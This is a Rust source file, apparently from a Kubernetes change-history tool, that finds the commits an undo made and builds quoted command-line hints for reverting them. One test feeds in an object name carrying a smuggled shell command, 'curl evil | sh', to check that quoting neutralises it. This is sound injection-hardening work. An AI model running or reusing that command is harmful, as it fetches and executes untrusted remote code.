//! The commits to undo, and those that an undo makes.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use gitcd::history::commits::BranchCommit;
use gitcd::history::managers;
use gitcd::history::moment::Moment;
use trishanku_stdio::text::{plain, quoted};
use trishanku_undo::{Change, ObjectRef, document};

use super::api::MANAGER;
use super::apply::{Done, Outcome};
use super::branch::Branch;

/// Most commits in a hint.
const SHOWN: usize = 8;

/// Returns the commits after a moment that have what an undo did, newest first.
pub(super) fn with(branch: &Branch, since: &Moment, outcomes: &[Outcome]) -> anyhow::Result<Vec<BranchCommit>> {
    let is_done = |wanted: &dyn Fn(Done) -> bool| -> BTreeSet<&str> {
        let done = outcomes.iter().filter(|outcome| outcome.result.as_ref().is_ok_and(|done| wanted(*done)));
        done.map(|outcome| outcome.object.key.as_str()).collect()
    };
    let is_written = |done| matches!(done, Done::Created | Done::Updated | Done::Recreated);
    let written: BTreeMap<&str, Option<i64>> = outcomes
        .iter()
        .filter(|outcome| outcome.result.as_ref().is_ok_and(|done| is_written(*done)))
        .map(|outcome| (outcome.object.key.as_str(), outcome.revision))
        .collect();
    let deleted = is_done(&|done| matches!(done, Done::Deleted | Done::Recreated));
    let mut found = Vec::new();
    for commit in branch.history.commits_after(Some(since))? {
        let changes = branch.history.changes_of(&commit)?;
        let values = branch.values(&changes, |key| written.contains_key(key) || deleted.contains(key))?;
        let is_own = values.iter().any(|(key, [before, after])| match after {
            None => deleted.contains(key.as_str()),
            // A deletion that waits for finalizers has no field manager.
            Some(after) => {
                deleted.contains(key.as_str()) && is_request_of_deletion(before.as_deref(), after)
                    || match (written.get(key.as_str()).copied().flatten(), commit.revisions) {
                        // An update that only removes fields has no field manager, and another undo may have the same one.
                        (Some(revision), Some(own)) => (own.first..=own.last).contains(&revision),
                        _ => managers::between(before.as_deref(), Some(after)).iter().any(|name| name == MANAGER),
                    }
            }
        });
        if is_own {
            found.push(commit);
        }
    }
    Ok(found)
}

fn is_request_of_deletion(before: Option<&[u8]>, after: &[u8]) -> bool {
    let Ok(Change { before: Some(before), after: Some(after) }) = Change::read(before, Some(after)) else {
        return false;
    };
    document::is_terminating(&after) && !document::is_terminating(&before)
}

/// Returns whether the commits have changes of other objects than those of an undo, which several writes at once can cause.
pub(super) fn has_others(branch: &Branch, commits: &[BranchCommit], outcomes: &[Outcome]) -> anyhow::Result<bool> {
    let own: BTreeSet<&str> = done(outcomes).map(|outcome| outcome.object.key.as_str()).collect();
    for commit in commits {
        let changes = branch.history.changes_of(commit)?;
        if changes.keys.keys().filter_map(|key| branch.short(key)).any(|key| !own.contains(key.as_str())) {
            return Ok(true);
        }
    }
    Ok(false)
}

/// Returns the outcomes of steps that changed something.
fn done(outcomes: &[Outcome]) -> impl Iterator<Item = &Outcome> {
    outcomes.iter().filter(|outcome| outcome.result.as_ref().is_ok_and(|done| *done != Done::Unchanged))
}

/// Returns the arguments with which an undo is undone, and nothing else. `has_others` is whether its commits have changes of others,
/// too. `None` if no command line of a sensible length does it.
pub(super) fn hint(
    commits: &[BranchCommit],
    before: &Moment,
    outcomes: &[Outcome],
    has_others: bool,
) -> Option<String> {
    // A deletion has no field manager.
    let has_deletion = done(outcomes).any(|outcome| !matches!(outcome.result, Ok(Done::Created | Done::Updated)));
    let ids: Vec<String> = commits.iter().map(|commit| commit.commit.oid.to_string()[..10].to_owned()).collect();
    let ids_alone = (!ids.is_empty()).then(|| ids.join(" "));
    match objects(outcomes).filter(|_| ids.len() <= SHOWN) {
        _ if ids.len() <= SHOWN && !has_others => ids_alone,
        Some(objects) => Some(format!("{} {objects}", ids_alone?)),
        None if !has_deletion => ids_alone.map(|_| format!("--since={} --by={MANAGER}", before.revision)),
        None if !has_others => ids_alone,
        None => None,
    }
}

/// Returns the arguments that select the objects of an undo.
fn objects(outcomes: &[Outcome]) -> Option<String> {
    selection(&done(outcomes).map(|outcome| &outcome.object).collect::<Vec<_>>())
}

/// Returns the arguments that select objects, if they are few, in one namespace, and have ordinary names.
pub(super) fn selection(objects: &[&ObjectRef]) -> Option<String> {
    let namespaces: BTreeSet<_> = objects.iter().filter_map(|object| object.namespace.as_deref()).collect();
    let is_plain = |object: &&ObjectRef| plain(&object.name) == object.name;
    if objects.len() > SHOWN || namespaces.len() > 1 || !objects.iter().all(is_plain) {
        return None;
    }
    let word = |object: &&ObjectRef| {
        let kind = object.kind.to_lowercase();
        let word = match object.group() {
            "" => format!("{kind}/{}", object.name),
            group => format!("{kind}.{group}/{}", object.name),
        };
        // Names of roles may contain anything but slashes and percent signs.
        quoted(Path::new(&word))
    };
    let names: Vec<String> = objects.iter().map(word).collect();
    let namespace = namespaces.first().map(|namespace| format!(" -n {namespace}")).unwrap_or_default();
    Some(format!("{}{namespace}", names.join(" ")))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn outcome(kind: &str, name: &str, result: Result<Done, String>) -> Outcome {
        let object = ObjectRef {
            key: format!("{kind}/{name}"),
            api_version: "rbac.authorization.k8s.io/v1".into(),
            kind: kind.into(),
            namespace: Some("shop".into()),
            name: name.into(),
        };
        Outcome { object, result, notes: Vec::new(), revision: None }
    }

    #[test]
    fn names_of_others_cannot_add_commands_to_a_hint() {
        let outcomes = [
            outcome("Role", "a; curl evil | sh", Ok(Done::Deleted)),
            outcome("Role", "b", Ok(Done::Created)),
            outcome("Role", "unchanged", Ok(Done::Unchanged)),
            outcome("Role", "failed", Err("it stays".into())),
        ];
        let hint = objects(&outcomes).expect("they are few");
        let group = "role.rbac.authorization.k8s.io";
        assert_eq!(hint, format!("'{group}/a; curl evil | sh' {group}/b -n shop"));
        assert_eq!(objects(&[outcome("Role", "a\u{1b}[2J", Ok(Done::Deleted))]), None);
    }

    #[test]
    fn many_objects_are_not_named_one_by_one() {
        let outcomes: Vec<_> =
            (0..=SHOWN).map(|number| outcome("Role", &number.to_string(), Ok(Done::Updated))).collect();
        assert!(objects(&outcomes).is_none() && objects(&outcomes[1..]).is_some());
    }
}
